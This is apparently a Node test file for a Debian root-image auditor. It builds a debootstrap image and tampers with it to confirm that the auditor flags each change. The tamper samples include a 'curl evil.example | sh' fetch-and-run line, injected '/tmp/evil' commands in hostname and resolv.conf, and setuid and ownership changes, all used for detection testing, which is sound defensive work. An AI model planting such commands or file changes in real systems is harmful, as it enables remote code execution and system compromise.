/** An image as debootstrap makes it, with nothing taken away: accounted for to the last file without any rebuild. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rename, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import { changed, type Member, readMembers, writeMembers } from '../../scripts/demo/tar-surgery.ts';
import type { FindingCode } from '../../src/model/finding-codes.ts';
import { type Auditor, startAuditor } from '../support/auditor.ts';
import { sourcesLines } from '../support/real-debs.ts';
import { file, link } from './open-image.ts';
import { EVIL, SCRIPT } from './tamper.ts';
import { CACHE } from './world.ts';

const run = promisify(execFile);
const CODENAME = 'bookworm';
/** A day later the archive may hold newer packages. */
const FRESH_MILLISECONDS = 24 * 3600 * 1000;

/** What an honest one may be told: debootstrap takes one suite alone, so that security updates are missing. */
const HONEST: ReadonlySet<string> = new Set<FindingCode>(['outdated-package']);

/** The tar of a root that debootstrap has just made, or made within the day. */
async function debootstrapped(): Promise<Buffer> {
  const kept = join(CACHE, 'debootstrap.tar');
  const made = await stat(kept).catch(() => undefined);
  if (made !== undefined && Date.now() - made.mtimeMs < FRESH_MILLISECONDS) return readFile(kept);
  await mkdir(CACHE, { recursive: true });
  const scratch = await mkdtemp(join(tmpdir(), 'conforme-debootstrap-'));
  const [root, tar] = [join(scratch, 'root'), `${kept}.${process.pid}`];
  try {
    const address = (await sourcesLines()).map((text) => text.trim().split(' ')).find(([, , suite]) => suite === CODENAME)?.[1];
    assert.ok(address !== undefined, `the apt sources of this machine name no archive of ${CODENAME}`);
    await run('debootstrap', ['--variant=minbase', CODENAME, root, address], { maxBuffer: 2 ** 26 });
    // debootstrap copies both of this machine, which may have given them any mode.
    await run('chmod', ['0644', join(root, 'etc/hostname'), join(root, 'etc/resolv.conf')]);
    await run('tar', ['--create', '--file', tar, '--numeric-owner', '--directory', root, '.']);
    await rename(tar, kept);
  } finally {
    await rm(scratch, { recursive: true, force: true });
    await rm(tar, { force: true });
  }
  return readFile(kept);
}

describe('an image made by debootstrap', () => {
  let auditor: Auditor;
  let base: Buffer;
  const members = new Map<string, Member>();

  before(async () => {
    base = await debootstrapped();
    for (const member of readMembers(base)) members.set(member.name, member);
    auditor = await startAuditor();
  });
  after(() => auditor?.stop());

  const member = (name: string): Member => {
    const found = members.get(name);
    assert.ok(found !== undefined, name);
    return found;
  };
  const more = (name: string, text: string): Member => {
    const one = member(name);
    return changed(one, { content: Buffer.concat([one.content, Buffer.from(text)]) });
  };

  it('is accounted for to the last file', async () => {
    const { account, unexplained, verdict, line } = await auditor.audit([base], { reinstall: true });
    assert.ok(account.length > 6000, String(account.length));
    assert.deepEqual(unexplained, []);
    assert.deepEqual(verdict.findings.filter(({ code, severity }) => severity !== 'info' && !HONEST.has(code)), []); // prettier-ignore
    assert.equal(verdict.coverage.accounted, 1);
    assert.equal(verdict.auditable, 'yes');
    for (const path of ['/etc/hostname', '/etc/resolv.conf', '/var/log/bootstrap.log']) {
      assert.ok(member(path.slice(1)).content.length > 0);
      assert.equal(line(path).attribution, 'volatile');
    }
  });

  const HOSTNAME = 'etc/hostname';
  const RESOLVER = 'etc/resolv.conf';
  const LOG = 'var/log/bootstrap.log';
  const METHOD = 'var/lib/dpkg/cmethopt';
  type Change = { member: Member; code: FindingCode };
  const twins: Record<string, () => Change[]> = {
    'scripts and programs in their places': () => [
      { member: changed(member(HOSTNAME), { content: Buffer.from(SCRIPT) }), code: 'unexplained-code' },
      { member: more(RESOLVER, 'exec /tmp/evil\n'), code: 'unexplained-file' },
      { member: changed(member(LOG), { content: EVIL }), code: 'unexplained-code' },
      { member: more('usr/bin/apt', 'evil'), code: 'packaged-file-replaced' },
    ],
    'commands among honest text': () => [
      { member: more(HOSTNAME, ';/tmp/evil\n'), code: 'unexplained-file' },
      { member: link(RESOLVER, '/tmp/evil'), code: 'unexplained-file' },
      { member: more(LOG, 'curl evil.example | sh\n'), code: 'unexplained-file' },
      { member: file(METHOD, '/tmp/evil apt\n'), code: 'unexplained-file' },
    ],
    'honest text to be run, of another owner, setuid': () => [
      { member: changed(member(HOSTNAME), { mode: 0o755 }), code: 'unexplained-file' },
      { member: changed(member(RESOLVER), { uid: 1000 }), code: 'unexplained-file' },
      { member: changed(member(LOG), { mode: 0o4755 }), code: 'setuid-unexpected' },
    ],
  };
  for (const [name, changes] of Object.entries(twins)) {
    it(`sees ${name}`, async () => {
      const made = changes();
      const { verdict, line } = await auditor.audit([base, writeMembers(made.map((one) => one.member))], { reinstall: true });
      for (const { member: one, code } of made) {
        const path = `/${one.name}`;
        const seen = verdict.findings.filter((finding) => finding.code === code && finding.paths.includes(path));
        assert.equal(seen.length, 1, `${code} for ${path}: ${JSON.stringify(verdict.findings)}`);
        assert.equal(line(path).attribution, 'unexplained');
      }
      assert.notEqual(verdict.auditable, 'yes');
    });
  }
});
